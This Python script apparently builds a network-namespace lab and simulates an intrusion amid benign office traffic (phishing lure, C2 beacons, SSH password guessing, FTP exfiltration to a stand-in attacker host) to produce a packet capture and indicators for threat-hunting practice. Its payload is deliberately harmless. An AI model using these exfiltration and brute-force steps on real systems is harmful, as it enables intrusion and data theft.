#!/usr/bin/env python3
r"""Play a small intrusion among benign noise, and capture it: ``traffic.pcap`` and the intel on it.

Real servers and clients run in network namespaces (``lab.py``) that have no way to a real network.
Needs Linux, root, and on Debian 12 or later:

    apt-get install -y --no-install-recommends curl dnsmasq-base ethtool iproute2 iputils-ping \
        openssh-client openssh-server openssl procps python3-aiosmtpd python3-pyftpdlib sshpass tcpdump

Where the packages would start services, keep them from it first. Then, from anywhere:

    python3 examples/capture/make_capture.py [FOLDER]

FOLDER is ``examples`` unless given. It takes half a minute. Keys, certificates and times are new each time.
"""

from __future__ import annotations

import hashlib
import io
import os
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from dataclasses import dataclass
from email.message import EmailMessage
from email.utils import formatdate
from pathlib import Path

import intel_files
from lab import QUIET, RESOLVER, Host, Lab

HERE = Path(__file__).resolve().parent
ACTORS = str(HERE / "actors.py")
COMMANDS: tuple[str, ...] = (
    "curl",
    "dnsmasq",
    "ethtool",
    "getent",
    "hostname",
    "ip",
    "mount",
    "openssl",
    "ping",
    "ss",
    "ssh",
)
COMMANDS += ("ssh-keygen", "sshd", "sshpass", "sysctl", "tcpdump", "unshare")
SYSTEM_PYTHON = "/usr/bin/python3"
"""The Python that Debian's packages belong to."""

DNS = Host("dns.office.example", RESOLVER)
MAIL = Host("mail.office.example", "10.20.0.25")
WWW = Host("www.office.example", "10.20.0.80")
BASTION = Host("ssh.office.example", "10.20.0.22")
ANNA = Host("anna.office.example", "10.20.0.101", "2001:db8:20::101")
BEN = Host("ben.office.example", "10.20.0.102", "2001:db8:20::102")
CHRIS = Host("chris.office.example", "10.20.0.103", dns_over_tcp=True)

NEWS = Host("news.example", "192.0.2.10", "2001:db8:10::10")
SHOP = Host("shop.example", "192.0.2.20")
MIRROR = Host("mirror.example", "192.0.2.30")
EDGE = Host("edge.cdn.example", "192.0.2.80")
PARTNER = Host("mx.partner.example", "192.0.2.25")

BULK = Host("edge7.bulk-hosting.test", "198.51.100.7", "2001:db8:bad::7")
C2 = Host("sync.telemetry-node.test", "198.51.100.23", "2001:db8:bad::23")
DROP = Host("drop.bulk-hosting.test", "198.51.100.90")
SPAMMER = Host("mx.invoiceportal.test", "203.0.113.9")
GUESSER = Host("scan45.bulk-hosting.test", "203.0.113.45")

HOSTS: tuple[Host, ...] = (DNS, MAIL, WWW, BASTION, ANNA, BEN, CHRIS, NEWS, SHOP, MIRROR, EDGE, PARTNER)
HOSTS += (BULK, C2, DROP, SPAMMER, GUESSER)

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 ExampleBrowser/128.0"
IMPLANT = "TelemetrySync/1.2 (build 7)"
RELAY = "smtp.bulk-hosting.test"
LURE = "http://download.invoiceportal.test/files/viewer-setup.bin?ref=4711"
PASSWORD = "Winter-2026"
GUESSES = ("123456", "backup", "Password1")
FTP_USER, FTP_PASSWORD = "dropbox17", "q3"
ODD_SSH = (
    "KexAlgorithms=diffie-hellman-group14-sha256,ecdh-sha2-nistp256",
    "Ciphers=aes128-ctr,aes256-ctr",
    "MACs=hmac-sha2-512,hmac-sha2-256",
)
"""The algorithms of the guesser's SSH client, which give it a HASSH that the office's clients don't have."""

DROPPER = b"".join(
    [b"#!/bin/sh\n# A harmless file of an example. It does nothing.\nexit 0\n"]
    + [f"# padding {hashlib.sha256(str(line).encode()).hexdigest()}\n".encode() for line in range(160)]
)


@dataclass(frozen=True)
class Secrets:
    """What is made anew for each capture, and stays in its temporary folder."""

    folder: Path

    @property
    def c2_certificate(self) -> Path:
        """The C2's self-signed certificate, with its key."""
        return self.folder / "c2.pem"

    @property
    def ca(self) -> Path:
        """The benign sites' certificate authority."""
        return self.folder / "ca.pem"

    def host_key(self, host: Host) -> Path:
        """A host's SSH key."""
        return self.folder / f"ssh-{host.v4}"

    @property
    def client_key(self) -> Path:
        """The key that people and the implant log in with."""
        return self.folder / "ssh-client"


def main() -> None:
    """Build the lab, play the story, write the capture and the intel."""
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE.parent
    if missing := what_is_missing():
        sys.exit(f"make_capture: {missing}")
    with tempfile.TemporaryDirectory(prefix="threathunting-lab-") as name:
        folder = Path(name)
        folder.chmod(0o755)
        secrets = make_secrets(folder)
        attachment = make_attachment()
        write_sites(folder / "www")
        with Lab(HOSTS, folder) as lab:
            start_servers(lab, secrets)
            recorder = lab.capture(folder / "traffic.pcap")
            fingerprints = play(lab, secrets, attachment)
            time.sleep(1.5)
            lab.stop(recorder)
        shutil.copyfile(folder / "traffic.pcap", target / "traffic.pcap")
        facts = gather(secrets, attachment, fingerprints)
    intel_files.write(target, facts)
    print(f"{target / 'traffic.pcap'}: {(target / 'traffic.pcap').stat().st_size} bytes")


def what_is_missing() -> str:
    """One sentence on what this machine lacks, or nothing."""
    if not sys.platform.startswith("linux") or os.geteuid() != 0:
        return "needs root on Linux (it makes network namespaces)"
    lacking = [name for name in COMMANDS if shutil.which(name, path=QUIET["PATH"]) is None]
    for module in ("aiosmtpd", "pyftpdlib"):
        found = subprocess.run([SYSTEM_PYTHON, "-c", f"import {module}"], capture_output=True, check=False)
        if found.returncode != 0:
            lacking.append(f"python3-{module}")
    return f"lacks {', '.join(lacking)} (its first lines say what to install)" if lacking else ""


def make_secrets(folder: Path) -> Secrets:
    """Keys and certificates."""
    secrets = Secrets(folder)
    new_key = ("-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "90")
    key, certificate = str(folder / "key"), str(folder / "certificate")
    made = ("-keyout", key, "-out", certificate)
    names = f"subjectAltName=DNS:{C2.name},DNS:relay.telemetry-node.test"
    _tool("openssl", "req", "-x509", *new_key, *made, "-subj", f"/CN={C2.name}", "-addext", names)
    secrets.c2_certificate.write_text(Path(certificate).read_text() + Path(key).read_text())
    ca = ("-CA", str(secrets.ca), "-CAkey", str(folder / "ca.key"))
    _tool(
        "openssl",
        "req",
        "-x509",
        *new_key,
        "-keyout",
        ca[3],
        "-out",
        ca[1],
        "-subj",
        "/O=Example Trust/CN=Example CA",
    )
    for host in (NEWS, SHOP):
        names = f"subjectAltName=DNS:{host.name},DNS:www.{host.name}"
        _tool(
            "openssl",
            "req",
            "-x509",
            *ca,
            *new_key,
            *made,
            "-subj",
            f"/O=Example/CN={host.name}",
            "-addext",
            names,
        )
        (folder / f"{host.name}.pem").write_text(Path(certificate).read_text() + Path(key).read_text())
    for path in (secrets.host_key(BASTION), secrets.host_key(C2), secrets.client_key):
        _tool("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "", "-f", str(path))
    return secrets


def make_attachment() -> bytes:
    """The mail's attachment, the same bytes each time."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(zipfile.ZipInfo("invoice_4711.txt"), f"A harmless file.\nYour invoice: {LURE}\n")
    return packed.getvalue()


def write_sites(root: Path) -> None:
    """The pages and files of every web site."""
    words = [
        "market",
        "weather",
        "harbour",
        "bridge",
        "council",
        "museum",
        "river",
        "festival",
        "library",
        "orchard",
    ]
    story = "".join(f"<p>{' '.join(words[i % 10 :] + words[: i % 10])}.</p>\n" for i in range(24))
    page = (
        "<html><head><title>{0}</title><link rel=stylesheet href=/style.css></head>"
        "<body><h1>{0}</h1>\n{1}</body></html>\n"
    )
    for site in (NEWS, SHOP, WWW, MIRROR):
        folder = root / site.name
        folder.mkdir(parents=True)
        (folder / "index.html").write_text(page.format(site.name, story))
        (folder / "style.css").write_text("body { font: 16px serif; margin: 2em }\n" * 20)
        (folder / "logo.png").write_bytes(_picture(64))
    (root / NEWS.name / "gate.php.html").write_text(page.format("How a gate works", story))
    (root / MIRROR.name / "files").mkdir()
    (root / MIRROR.name / "files" / "tools_2.4.tar.gz").write_bytes(
        zlib.compress(story.encode() * 8, wbits=31)
    )
    (root / "download.invoiceportal.test" / "files").mkdir(parents=True)
    (root / "download.invoiceportal.test" / "files" / "viewer-setup.bin").write_bytes(DROPPER)
    (root / "default" / "backup").mkdir(parents=True)
    (root / "default" / "backup" / "forecast.csv").write_text("region,quarter,amount\nnorth,Q3,1200\n" * 40)
    (root / "default" / "config").write_text("interval=60\njitter=5\n")
    (root / "default" / "index.html").write_text(page.format("Welcome", story[:900]))


def start_servers(lab: Lab, secrets: Secrets) -> None:
    """Every server of the story."""
    folder = secrets.folder
    records = [f"--host-record={host.name},{host.v4}" + (f",{host.v6}" if host.v6 else "") for host in HOSTS]
    records += [
        "--host-record=a1.updates-cdn.test,198.51.100.23",
        "--host-record=notupdates-cdn.test,192.0.2.30",
        "--host-record=invoiceportal.example,192.0.2.10",
        f"--cname=download.invoiceportal.test,{BULK.name}",
        f"--cname=www.{SHOP.name},{SHOP.name}",
        f"--cname=intranet.office.example,{WWW.name}",
    ]
    quiet = (
        "--no-daemon",
        "--conf-file=/dev/null",
        "--no-resolv",
        "--no-hosts",
        "--user=root",
        "--pid-file",
        "--local-ttl=300",
    )
    lab.serve(DNS, "dnsmasq", *quiet, "--local=/example/", "--local=/test/", *records, ports=[53])

    lab.serve(
        MAIL,
        SYSTEM_PYTHON,
        "-m",
        "aiosmtpd",
        "-n",
        "-c",
        "aiosmtpd.handlers.Sink",
        "-l",
        f"{MAIL.v4}:25",
        ports=[25],
    )

    for host in (NEWS, SHOP, MIRROR, WWW, BULK):
        _web(lab, host, host.v4, 80)
    for host, newest in ((NEWS, "1.3"), (SHOP, "1.2")):
        _web(lab, host, host.v4, 443, str(folder / f"{host.name}.pem"), newest)
    _web(lab, NEWS, str(NEWS.v6), 80)
    _web(lab, C2, C2.v4, 8080)
    _web(lab, C2, str(C2.v6), 80)
    _web(lab, C2, C2.v4, 443, str(secrets.c2_certificate), "1.2")
    _actor(lab, C2, "udp", C2.v4, "40123", ports=[40123])

    (folder / "exfil").mkdir()
    account = ("-u", FTP_USER, "-P", FTP_PASSWORD)
    at = ("-i", DROP.v4, "-p", "21", "-w", "-d", str(folder / "exfil"))
    lab.serve(DROP, SYSTEM_PYTHON, "-m", "pyftpdlib", *at, *account, ports=[21])

    for host, user in ((BASTION, "backup"), (C2, "relay")):
        _sshd(lab, secrets, host, user)


def play(lab: Lab, secrets: Secrets, attachment: bytes) -> dict[str, str]:
    """The story, in order. Gives the fingerprints that only its clients know."""
    browse(lab, secrets)
    receive_mail(lab, attachment)
    infect_anna(lab)
    hassh = guess_passwords(lab, secrets)
    take_away(lab, secrets)
    knock_through_proxy(lab)
    browse(lab, secrets, again=True)
    return {"hassh": hassh}


def browse(lab: Lab, secrets: Secrets, again: bool = False) -> None:
    """What the office does all day: nobody is after it."""
    for host in (ANNA, BEN):
        _get(
            lab,
            host,
            f"http://{NEWS.name}/",
            f"http://{NEWS.name}/style.css",
            f"http://{NEWS.name}/logo.png",
            options=("-4",),
        )
        _pause()
    _get(lab, BEN, "http://intranet.office.example/", f"http://{WWW.name}/logo.png")
    _get(lab, CHRIS, f"http://{MIRROR.name}/files/tools_2.4.tar.gz", agent="ExamplePackager/2.4")
    for host, name in ((ANNA, SHOP.name), (CHRIS, f"www.{SHOP.name}"), (BEN, NEWS.name)):
        _get(lab, host, f"https://{name}/", options=("-4", "--cacert", str(secrets.ca)))
        _pause()
    if again:
        _get(lab, BEN, f"http://{NEWS.name}/gate.php.html", f"http://{NEWS.name}/missing", options=("-6",))
        # Names and a link that look like those that are hunted, and aren't.
        _get(
            lab, CHRIS, "http://notupdates-cdn.test/", f"http://{MIRROR.name}/files/viewer-setup.bin?ref=4712"
        )
        _resolve(lab, CHRIS, "invoiceportal.example")
    else:
        _resolve(lab, BEN, "printer.office.example", found=False)
        lab.run(CHRIS, "ping", "-n", "-c", "2", "-i", "0.2", WWW.v4)
        lab.run(BEN, *_ssh(secrets.client_key, "backup@" + BASTION.v4), "uptime > /dev/null")
        colleague = _message("Chris <chris@partner.example>", "Ben <ben@office.example>", "Lunch on Thursday")
        colleague["X-Mailer"] = "ExampleMail 12.1"
        colleague.set_content("Shall we meet at noon? The menu is on http://news.example/lunch\n")
        _deliver(lab, PARTNER, "chris@partner.example", "ben@office.example", colleague)


def receive_mail(lab: Lab, attachment: bytes) -> None:
    """The phishing mail to Anna."""
    received = (
        f"from {RELAY} ({RELAY} [198.51.100.77]) by {SPAMMER.name} with ESMTP id 4711",
        f"from [203.0.113.200] (helo=desk) by {RELAY} with ESMTP id 4710",
    )
    sender, recipient = "Billing <billing@invoiceportal.test>", "Anna <anna@office.example>"
    mail = _message(sender, recipient, "Your overdue invoice 4711", received)
    mail["Reply-To"] = "collections@bulk-hosting.test"
    mail["X-Originating-IP"] = "[203.0.113.200]"
    mail["X-Mailer"] = "BulkPost 3.1"
    mail.set_content(f"Your invoice is overdue. Open it with the viewer:\n{LURE} today.\n")
    mail.add_alternative(f'<p>Your invoice is overdue.\n<a href="{LURE}">\nOpen it</a>.\n', subtype="html")
    mail.add_attachment(attachment, "application", "zip", filename="invoice_4711.zip")
    _deliver(lab, SPAMMER, "billing@invoiceportal.test", "anna@office.example", mail)
    _pause()


def infect_anna(lab: Lab) -> None:
    """Anna opens the link; what she got calls home in five ways."""
    _get(lab, ANNA, LURE, options=("-e", "http://webmail.office.example/inbox/4711"))
    _pause()
    _resolve(lab, ANNA, "a1.updates-cdn.test")
    _resolve(lab, ANNA, "b2.updates-cdn.test", found=False)
    for number in range(3):
        body = ("-d", f"id=anna&n={number}")
        _get(lab, ANNA, f"http://{C2.v4}:8080/gate.php", agent=IMPLANT, options=body)
        _pause()
    for _ in range(2):
        _actor(lab, ANNA, "beacon", C2.name, "443")
        _pause()
    _get(lab, ANNA, f"http://[{C2.v6}]/config", agent=IMPLANT)
    lab.run(ANNA, "ping", "-n", "-c", "2", "-i", "0.2", C2.v4)
    _actor(lab, ANNA, "datagrams", C2.v4, "40123")


def guess_passwords(lab: Lab, secrets: Secrets) -> str:
    """Guess passwords on the bastion until one is right, and go on from there. Gives the HASSH."""
    said = ""
    for guess in (*GUESSES, PASSWORD):
        right = guess == PASSWORD
        client = _ssh(None, f"backup@{BASTION.v4}", *ODD_SSH, "LogLevel=DEBUG2")
        onward = f"curl -s -o /dev/null http://{WWW.v4}/backup/forecast.csv"
        said = lab.run(GUESSER, "sshpass", "-p", guess, *client, onward, status=0 if right else 255)
    return _hassh(said)


def take_away(lab: Lab, secrets: Secrets) -> None:
    """Anna's machine opens a tunnel to the C2 and puts a file on an FTP server."""
    lab.run(ANNA, *_ssh(secrets.client_key, f"relay@{C2.v4}"), "cat > /dev/null", text="tunnel\n" * 200)
    stolen = secrets.folder / "q3-forecast.csv"
    stolen.write_text("region,quarter,amount\nnorth,Q3,1200\n" * 40)
    to = f"ftp://{FTP_USER}:{FTP_PASSWORD}@{DROP.v4}/"
    lab.run(ANNA, "curl", "-q", "-sS", "--disable-eprt", "-T", str(stolen), to)


def knock_through_proxy(lab: Lab) -> None:
    """Somebody reaches the office's web server through a proxy, which says on whose behalf."""
    for client in ("203.0.113.66", "192.0.2.144"):
        forwarded = (
            "-H",
            f"X-Forwarded-For: {client}",
            "-H",
            f"Via: 1.1 {EDGE.name}",
            "-H",
            f"Host: {WWW.name}",
        )
        _get(lab, EDGE, f"http://{WWW.v4}/?from=edge", options=forwarded)


def gather(secrets: Secrets, attachment: bytes, fingerprints: dict[str, str]) -> dict[str, str]:
    """What the intel needs to know of this very capture."""
    der = subprocess.run(
        ["openssl", "x509", "-in", str(secrets.c2_certificate), "-outform", "DER"],
        capture_output=True,
        check=True,
    ).stdout
    key = f"{secrets.host_key(C2)}.pub"
    hello = ClientHello.parse(bytes.fromhex(_tool(SYSTEM_PYTHON, ACTORS, "clienthello", C2.name).strip()))
    return {
        "dropper_sha256": hashlib.sha256(DROPPER).hexdigest(),
        "attachment_sha1": hashlib.sha1(attachment).hexdigest(),
        "certificate_sha1": hashlib.sha1(der).hexdigest(),
        "certificate_sha256": hashlib.sha256(der).hexdigest(),
        "host_key_md5": _tool("ssh-keygen", "-l", "-E", "md5", "-f", key).split()[1].removeprefix("MD5:"),
        "host_key_sha256": _tool("ssh-keygen", "-l", "-E", "sha256", "-f", key).split()[1],
        "ja3": hello.ja3(),
        "ja4": hello.ja4(),
        "lure": LURE,
        "implant": IMPLANT,
        "ftp_user": FTP_USER,
        **fingerprints,
    }


@dataclass(frozen=True)
class ClientHello:
    """What a TLS client says of itself in its first record; ours sends no GREASE and no ALPN."""

    version: int
    ciphers: tuple[int, ...]
    extensions: tuple[tuple[int, bytes], ...]

    @classmethod
    def parse(cls, record: bytes) -> ClientHello:
        """Read a TLS record that holds a whole ClientHello (RFC 8446, section 4.1.2)."""
        hello = record[9:]
        (version,) = struct.unpack_from("!H", hello)
        at = 35 + hello[34]
        (size,) = struct.unpack_from("!H", hello, at)
        ciphers = struct.unpack_from(f"!{size // 2}H", hello, at + 2)
        at += 2 + size
        at += 1 + hello[at] + 2
        extensions = []
        while at < len(hello):
            kind, size = struct.unpack_from("!HH", hello, at)
            extensions.append((kind, hello[at + 4 : at + 4 + size]))
            at += 4 + size
        return cls(version, ciphers, tuple(extensions))

    def ja3(self) -> str:
        """Its JA3 (github salesforce/ja3)."""
        known = dict(self.extensions)
        kinds = [kind for kind, _ in self.extensions]
        parts = ([self.version], self.ciphers, kinds, _words(known[10][2:]), known[11][1:])
        return hashlib.md5(",".join("-".join(map(str, part)) for part in parts).encode()).hexdigest()

    def ja4(self) -> str:
        """Its JA4 (github FoxIO-LLC/ja4), for a client of TLS 1.3 over TCP that names the server."""
        known = dict(self.extensions)
        kinds = sorted(f"{kind:04x}" for kind in known if kind not in (0, 16))
        ciphers = ",".join(sorted(f"{cipher:04x}" for cipher in self.ciphers))
        others = ",".join(kinds) + "_" + ",".join(f"{word:04x}" for word in _words(known[13][2:]))
        hashes = (hashlib.sha256(text.encode()).hexdigest()[:12] for text in (ciphers, others))
        return "_".join((f"t13d{len(self.ciphers):02}{len(known):02}00", *hashes))


def _words(data: bytes) -> tuple[int, ...]:
    return struct.unpack(f"!{len(data) // 2}H", data)


def _hassh(said: str) -> str:
    """The HASSH of an OpenSSH client (github salesforce/hassh), from its own debug log."""
    own = said.partition("local client KEXINIT proposal")[2].partition("peer server KEXINIT proposal")[0]
    names = ("KEX algorithms", "ciphers ctos", "MACs ctos", "compression ctos")
    parts = [re.search(rf"{name}: (\S+)", own) for name in names]
    return hashlib.md5(";".join(part[1] for part in parts if part).encode()).hexdigest()


def _message(sender: str, recipient: str, subject: str, received: tuple[str, ...] = ()) -> EmailMessage:
    mail = EmailMessage()
    for step in received:
        mail["Received"] = f"{step}; {formatdate()}"
    mail["From"], mail["To"], mail["Subject"], mail["Date"] = sender, recipient, subject, formatdate()
    domain = sender.partition("@")[2].rstrip(">")
    mail["Message-ID"] = f"<{hashlib.md5(subject.encode()).hexdigest()}@{domain}>"
    return mail


def _deliver(lab: Lab, host: Host, sender: str, recipient: str, mail: EmailMessage) -> None:
    lab.run(
        host,
        SYSTEM_PYTHON,
        ACTORS,
        "mail",
        MAIL.v4,
        host.name,
        sender,
        recipient,
        text=mail.as_string(),
    )


def _get(lab: Lab, host: Host, *urls: str, agent: str = BROWSER, options: tuple[str, ...] = ()) -> None:
    out = [argument for _ in urls for argument in ("-o", "/dev/null")]
    lab.run(host, "curl", "-q", "-sS", "-g", "--http1.1", "-A", agent, *options, *out, *urls)


def _resolve(lab: Lab, host: Host, name: str, found: bool = True) -> None:
    lab.run(host, "getent", "ahosts", name, status=0 if found else 2)


def _ssh(key: Path | None, target: str, *options: str) -> tuple[str, ...]:
    common = (
        "UserKnownHostsFile=/dev/null",
        "StrictHostKeyChecking=no",
        "IdentityAgent=none",
        "GSSAPIAuthentication=no",
    )
    way = (
        ("PubkeyAuthentication=no", "NumberOfPasswordPrompts=1")
        if key is None
        else (f"IdentityFile={key}", "BatchMode=yes")
    )
    return ("ssh", "-F", "/dev/null", *(f"-o{option}" for option in (*common, *way, *options)), target)


def _sshd(lab: Lab, secrets: Secrets, host: Host, user: str) -> None:
    hashed = _tool("openssl", "passwd", "-6", PASSWORD).strip()
    lab.account(host, user, hashed)
    keys = secrets.folder / "authorized_keys"
    shutil.copyfile(f"{secrets.client_key}.pub", keys)
    keys.chmod(0o644)
    settings = (
        f"ListenAddress {host.v4}",
        f"HostKey {secrets.host_key(host)}",
        f"AuthorizedKeysFile {keys}",
        "PidFile none",
        "UsePAM no",
        "UseDNS no",
        "StrictModes no",
        "PasswordAuthentication yes",
        "KbdInteractiveAuthentication no",
    )
    config = secrets.folder / f"sshd-{host.v4}"
    config.write_text("\n".join(settings) + "\n")
    # sshd notes failed logins under /var/log and keeps a folder under /run: not in the system's ones.
    own = "mount -t tmpfs none /var/log; mount -t tmpfs none /run; mkdir /run/sshd;"
    lab.serve(host, "/usr/sbin/sshd", "-D", "-e", "-f", str(config), ports=[22], setup=own)


def _web(lab: Lab, host: Host, address: str, port: int, *tls: str) -> None:
    root = str(Path(lab.folder) / "www")
    _actor(lab, host, "web", address, str(port), root, *tls, ports=[port])


def _actor(lab: Lab, host: Host, *arguments: str, ports: list[int] | None = None) -> None:
    command = (SYSTEM_PYTHON, ACTORS, *arguments)
    if ports is None:
        lab.run(host, *command)
    else:
        lab.serve(host, *command, ports=ports)


def _picture(size: int) -> bytes:
    """A PNG of coloured stripes."""
    rows = b"".join(
        b"\0" + bytes((x * y * 7 + channel * 40) % 256 for x in range(size) for channel in range(3))
        for y in range(size)
    )
    chunks = (
        (b"IHDR", struct.pack("!IIBBBBB", size, size, 8, 2, 0, 0, 0)),
        (b"IDAT", zlib.compress(rows, 9)),
        (b"IEND", b""),
    )
    packed = (
        struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))
        for kind, data in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(packed)


def _pause() -> None:
    time.sleep(0.6)


def _tool(*command: str) -> str:
    return subprocess.run(command, capture_output=True, text=True, env=QUIET, check=True).stdout


if __name__ == "__main__":
    main()
